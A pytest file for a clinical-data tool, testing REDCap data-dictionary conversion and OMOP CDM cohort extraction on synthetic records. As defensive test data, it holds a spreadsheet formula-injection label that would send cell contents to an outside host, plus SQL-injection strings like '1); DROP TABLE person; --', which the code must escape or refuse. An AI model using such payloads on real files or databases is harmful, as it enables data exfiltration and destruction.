"""REDCap's data dictionary and back; a cohort of an OMOP CDM: each from nothing to a prepared table."""

# ruff: noqa: F811  (a fixture is imported by its name)
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from stage.hospital_side.site_desk import hospital  # noqa: F401
from stage.house.upgrade import postgres  # noqa: F401
from stage.plans.redcap import FIELDS, redcap

from coordinator.planning.from_dictionary import template_of
from coordinator.planning.review import review
from shared.errors import ConfigRefusal, DataFileRefusal, DictionaryRefusal, UsageRefusal
from shared.plans.dictionary import Column, Dictionary
from shared.plans.plan import StudyPlan
from shared.plans.redcap import from_redcap, to_redcap
from site_agent.config import TableSource
from site_agent.records import table as records
from site_agent.records.mapping.suggesting import proposed
from site_agent.records.standards import omop

KEY = b"k" * 32


def test_a_data_dictionary_becomes_the_plan_s():
    found = from_redcap(redcap(), name="ward")
    columns = {column.name: column for column in found.dictionary.columns}
    assert list(columns) == ["record_id", "age", "sbp", "sex", "smoke", "dm", "meds___a", "meds___b", "pain"]
    assert columns["record_id"].kind == "person"
    assert (columns["age"].unit, columns["age"].span, columns["age"].missing) == ("years", (18, 110), "refuse")
    assert (columns["sbp"].decimals, columns["sbp"].missing) == (1, "level")
    assert columns["sbp"].codes == ("LOINC:8480-6", "OMOP:3004249")
    assert (columns["sex"].kind, columns["sex"].levels) == ("binary", (1, 2))
    assert columns["sex"].label == "Sex (1 Male, 2 Female)"
    assert columns["smoke"].levels == (0, 1, 2)
    assert set(found.left_out) == {"name", "birth", "lab", "note"}
    assert "ages and times" in found.left_out["birth"]
    assert "a least and a greatest" in found.left_out["lab"]


def test_a_label_that_a_spreadsheet_runs_goes_to_redcap_behind_a_blank_and_comes_back():
    label = '=HYPERLINK("http://elsewhere.org?"&A1)'
    given = Dictionary(
        name="w",
        version=1,
        columns=(
            Column(name="person", kind="person", label=label),
            Column(name="age", kind="integer", label=label, unit="years", lower=18, upper=110),
        ),
    )
    written = list(csv.DictReader(io.StringIO(to_redcap(given))))
    assert [row["Field Label"] for row in written] == [f" {label}", f" {label} (years)"]
    assert from_redcap(to_redcap(given), name="w").dictionary == given


def test_a_dictionary_goes_to_redcap_and_comes_back(dictionary):
    coded = replace(dictionary.columns[3], codes=("LOINC:8480-6",))
    given = replace(dictionary, columns=(*dictionary.columns[:3], coded, *dictionary.columns[4:]))
    back = from_redcap(to_redcap(given), name="mini")
    assert back.left_out == {}
    assert back.dictionary == given
    words = Column(name="x", kind="nominal", levels=("a b", "c, d"))
    with pytest.raises(DictionaryRefusal, match="codes in REDCap"):
        to_redcap(Dictionary(name="w", version=1, columns=(words,)))


@pytest.mark.parametrize("text", ["", "a,b\n1,2\n", redcap([]), "x" * 5000])
def test_another_file_is_no_data_dictionary(text):
    with pytest.raises(DataFileRefusal, match="REDCap exports"):
        from_redcap(text, name="x")


def test_codes_change_no_hash_of_a_plan_without_them(dictionary):
    assert '"codes"' not in json.dumps(dictionary.to_canonical())
    coded = replace(
        dictionary, columns=(replace(dictionary.columns[1], codes=("OMOP:1",)), *dictionary.columns[1:][1:])
    )
    assert Dictionary.from_canonical(coded.to_canonical()) == coded
    with pytest.raises(DictionaryRefusal, match="VOCABULARY:CODE"):
        replace(dictionary.columns[1], codes=("8480-6",))


@pytest.mark.parametrize(("first", "asked"), [("age", "mean(age)"), ("sex", "proportion(sex == 2)")])
def test_the_first_plan_of_a_dictionary_asks_what_can_be_answered(first, asked):
    fields = [FIELDS[0], *(field for field in FIELDS if field[0] == first)]
    read = from_redcap(redcap(fields), name="ward")
    today = dt.date(2026, 1, 1)
    plan, checks = review(
        template_of(read.dictionary, "ward", coordinator="hub", today=today, file="w.toml"), today=today
    )
    assert plan is not None
    assert plan.estimands["first"] == asked
    assert [check.name for check in checks if check.state == "fail"] == []


def test_a_redcap_export_goes_from_nothing_to_a_checked_table(hospital, tmp_path):
    """The plan is made of the data dictionary; REDCap's raw export is read, dates and what was left out ignored."""
    read = from_redcap(redcap(), name="ward")
    text = template_of(read.dictionary, "ward", coordinator="hub", today=dt.date(2026, 1, 1), file="w.toml")
    plan, checks = review(text, today=dt.date(2026, 1, 1))
    assert plan is not None
    assert [check.name for check in checks if check.state == "fail"] == []
    rng, n = np.random.default_rng(1), 120
    export = pd.DataFrame(
        {
            "record_id": range(1, n + 1),
            "name": "somebody",
            "age": rng.integers(18, 90, n),
            "sbp": rng.normal(130, 15, n).round(1),
            "sex": rng.integers(1, 3, n),
            "smoke": rng.integers(0, 3, n),
            "dm": rng.integers(0, 2, n),
            "meds___a": rng.integers(0, 2, n),
            "meds___b": rng.integers(0, 2, n),
            "pain": rng.integers(0, 101, n),
            "form_complete": 2,
        }
    )
    export.loc[::7, "sbp"] = np.nan
    export.to_csv(tmp_path / "export.csv", index=False)
    at = hospital.joined().approved(StudyPlan.from_toml(text))
    at("data", "add", str(tmp_path / "export.csv"), "--as", "ward")
    at("data", "map", "ward", "--ignore-rest")
    checked = at.json("data", "check", "ward")
    assert (checked["problems"], checked["rows"]) == ([], n)


# -- OMOP ---------------------------------------------------------------------------------------------------------
DEFINITION = """
[cohort]
table = "condition_occurrence"
concepts = [316866]
from = 2010-01-01
to = 2015-12-31
prior_days = 30

[covariates.sbp]
table = "measurement"
concepts = [3004249]
take = "last"
days = [-365, 0]
units = [8876]

[covariates.highest]
table = "measurement"
concepts = [3004249]
take = "max"

[covariates.diabetes]
table = "condition_occurrence"
concepts = [201820]
days = [-3650, 0]

[event]
table = "death"
"""
PERSONS = pd.DataFrame(
    {
        "person_id": [1, 2, 3, 4, 5],
        "year_of_birth": [1950, 1960, 1970, 1940, 1945],
        "gender_concept_id": [8507, 8532] * 2 + [8507],
    }
)
CONDITIONS = pd.DataFrame(
    [  # the second person enters by a descendant; the third too early, the fourth without thirty days before
        *((1, 316866, "2012-05-01"), (1, 316866, "2011-03-01"), (1, 201826, "2010-01-01"), (2, 320128, "2013-01-01")),
        *((3, 316866, "2009-12-31"), (4, 316866, "2012-01-10"), (5, 201820, "2014-01-02"), (5, 316866, "2014-01-01")),
    ],
    columns=["person_id", "condition_concept_id", "condition_start_date"],
)
MEASURED = pd.DataFrame(
    [
        *((1, 3004249, "2011-02-01", 150.0, 8876), (1, 3004249, "2011-02-01", 151.0, 8876)),
        *((1, 3004249, "2010-12-01", 160.0, 8876), (1, 3004249, "2011-03-02", 199.0, 8876)),
        *((1, 3004249, "2011-02-20", 20.0, 44777602), (2, 3004249, "2011-12-01", 140.0, 8876)),
        *((5, 3004249, "2013-12-31", None, 8876), (5, 3004249, "2013-06-01", 120.0, 8876)),
    ],
    columns=["person_id", "measurement_concept_id", "measurement_date", "value_as_number", "unit_concept_id"],
)
TABLES = {
    "person": PERSONS,
    "condition_occurrence": CONDITIONS.assign(condition_occurrence_id=range(len(CONDITIONS))),
    "measurement": MEASURED.assign(measurement_id=range(len(MEASURED))),
    "concept_ancestor": pd.DataFrame(
        [(k, k) for k in (316866, 201820, 3004249)] + [(316866, 320128), (201820, 201826)],
        columns=["ancestor_concept_id", "descendant_concept_id"],
    ),
    "observation_period": pd.DataFrame(
        {
            "person_id": [1, 2, 3, 4, 5],
            "observation_period_start_date": ["2009-01-01", "2009-01-01", "2009-01-01", "2012-01-01", "2009-01-01"],
            "observation_period_end_date": ["2018-01-01"] * 5,
        }
    ),
    "death": pd.DataFrame(
        {"person_id": [1, 3], "death_date": ["2012-03-01", "2010-01-01"], "cause_concept_id": [0, 0]}
    ),
}
STUDY = Dictionary(
    name="o",
    version=1,
    columns=(
        Column(name="person", kind="person"),
        Column(name="age", kind="integer", unit="years", lower=18, upper=110),
        Column(name="sex", kind="binary", levels=("female", "male")),
        Column(
            name="sbp", kind="continuous", unit="mmHg", lower=50, upper=300, missing="level", codes=("OMOP:3004249",)
        ),
        Column(name="diabetes", kind="binary"),
        Column(name="time", kind="time", unit="days", upper=730, event="died"),
        Column(name="died", kind="event"),
    ),
)


def cohort(tmp_path, text=DEFINITION) -> omop.CohortDefinition:
    (tmp_path / "cohort.toml").write_text(text)
    return omop.read(tmp_path / "cohort.toml")


@pytest.fixture
def cdm(tmp_path, monkeypatch):
    with sqlite3.connect(tmp_path / "cdm.sqlite") as db:
        for name, table in TABLES.items():
            table.to_sql(name, db, index=False)
    db.close()
    monkeypatch.setenv("CDM", f"sqlite:///{tmp_path / 'cdm.sqlite'}")
    path = tmp_path / "cohort.sql"
    path.write_text(omop.select(cohort(tmp_path), "sqlite"))
    return TableSource(path=path, database="CDM")


ROWS = [
    # person, index, age, gender, sbp, highest, diabetes, event, end
    (1, "2011-03-01", 61, 8507, 151.0, 160.0, 1, "2012-03-01", "2018-01-01"),
    (2, "2013-01-01", 53, 8532, None, None, 0, None, "2018-01-01"),
    (5, "2014-01-01", 69, 8507, 120.0, 120.0, 0, None, "2018-01-01"),
]


def test_a_cohort_of_a_cdm_is_one_select_that_gives_one_row_per_person(cdm):
    found = records.whole(cdm).astype(object)
    rows = [tuple(None if pd.isna(value) else value for value in row) for row in found.itertuples(index=False)]
    assert rows == ROWS


def test_a_cdm_goes_from_a_definition_to_the_prepared_table(cdm):
    """By the mapping that is proposed, without another word."""
    found = proposed(records.whole(cdm), STUDY, {}, ["highest"])
    assert set(found.open) == set()
    source = replace(cdm, **found.mapped)
    assert records.problems(source, STUDY) == ()
    table = records.read(source, STUDY, key=KEY).table
    assert table["sex"].tolist() == [1, 0, 1]
    assert table["time"].tolist() == [366, 730, 730]
    assert table["died"].tolist() == [1, 0, 0]


def test_postgresql_gives_the_rows_that_sqlite_gives(tmp_path, monkeypatch, postgres):
    from sqlalchemy import create_engine, text

    engine = create_engine(postgres)
    with engine.begin() as connection:
        connection.execute(text("CREATE SCHEMA cdm"))
        for name, table in TABLES.items():
            typed = {column: pd.to_datetime(table[column]).dt.date for column in table if column.endswith("_date")}
            table.assign(**typed).to_sql(name, connection, schema="cdm", index=False)
    engine.dispose()
    monkeypatch.setenv("CDM", postgres)
    path = tmp_path / "cohort.sql"
    path.write_text(omop.select(cohort(tmp_path, 'schema = "cdm"\n' + DEFINITION), "postgresql"))
    found = records.whole(TableSource(path=path, database="CDM")).astype(object)
    rows = [tuple(None if pd.isna(value) else value for value in row) for row in found.itertuples(index=False)]
    assert [tuple(str(v) if hasattr(v, "year") else v for v in row) for row in rows] == ROWS
    engine = create_engine(postgres)
    with engine.begin() as connection:
        connection.execute(text("CREATE TABLE cdm.cdm_source AS SELECT 'v6.0' AS cdm_version"))
    engine.dispose()
    with pytest.raises(DataFileRefusal, match=r"version 5, got cdm_version 'v6\.0'"):
        records.whole(TableSource(path=path, database="CDM"))
    with engine.begin() as connection:
        connection.execute(text("ALTER TABLE cdm.cdm_source RENAME COLUMN cdm_version TO version"))
    engine.dispose()
    assert len(records.whole(TableSource(path=path, database="CDM"))) == len(ROWS), "it does not say its version"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (('"condition_occurrence"\nconcepts = [316866]', '"conditions"\nconcepts = [1]'), "must name one of"),
        (("[316866]", '["1); DROP TABLE person; --"]'), "concept ids"),
        (("[covariates.sbp]", '[covariates."sbp; DROP"]'), "name of its own"),
        (("from = 2010-01-01", 'from = "2010"'), "from to a day"),
        (('take = "last"', 'take = "median"'), "take one of"),
        (("days = [-365, 0]", "days = [0, -365]"), "first and a last day"),
        (('schema = ""', 'schema = "x; y"'), "schema"),
        (("[cohort]", "[cohorts]"), "cohort"),
    ],
)
def test_a_definition_that_says_something_else_is_refused(change, words, tmp_path):
    text = 'schema = ""\n' + DEFINITION
    assert change[0] in text
    with pytest.raises(ConfigRefusal, match=words):
        cohort(tmp_path, text.replace(*change))
    with pytest.raises(UsageRefusal, match="dialect"):
        omop.select(cohort(tmp_path), "oracle")


@pytest.mark.parametrize(
    ("told", "given"),
    [
        (["v5.4"], ""),
        (["CDM v5.3.1", None], ""),
        (["5"], ""),
        (["OMOP CDM Version 5.4"], ""),
        (["OMOP_CDM_v5.3"], ""),
        (["OMOP Common Data Model v5.3.1"], ""),
        (["", "unknown"], ""),
        ([], ""),
        (["v6.0"], "'v6.0'"),
        (["5.4", "4.0"], "'4.0'"),
        (["OMOP CDM v6.0"], "v6.0"),
        (["50"], "'50'"),
        (["Version 6"], "'Version 6'"),
    ],
)
def test_a_select_for_one_version_is_put_to_no_cdm_of_another(cdm, tmp_path, told, given):
    with sqlite3.connect(tmp_path / "cdm.sqlite") as db:
        pd.DataFrame({"cdm_version": told}, dtype=object).to_sql("cdm_source", db, index=False)
    db.close()
    if not given:
        assert len(records.whole(cdm)) == 3
        return
    with pytest.raises(DataFileRefusal, match=r"an OMOP CDM of version 5, got cdm_version") as found:
        records.header(cdm)
    assert given in str(found.value)
    by_hand = tmp_path / "by-hand.sql"
    by_hand.write_text(cdm.path.read_text().split("\n", 1)[1])
    assert len(records.whole(replace(cdm, path=by_hand))) == 3, "a SELECT of the hospital's own is its own"


def test_a_cdm_that_does_not_say_its_version_is_read(cdm, tmp_path):
    with sqlite3.connect(tmp_path / "cdm.sqlite") as db:
        db.execute("CREATE TABLE cdm_source (cdm_source_name TEXT)")
    db.close()
    assert len(records.whole(cdm)) == 3


def test_a_database_that_is_no_cdm_is_refused_in_the_databases_words(cdm, tmp_path, monkeypatch):
    with sqlite3.connect(tmp_path / "other.sqlite") as db:
        db.execute("CREATE TABLE person (person_id)")
    db.close()
    monkeypatch.setenv("CDM", f"sqlite:///{tmp_path / 'other.sqlite'}")
    with pytest.raises(DataFileRefusal) as caught:
        records.header(cdm)
    assert "no such table" in caught.value.given
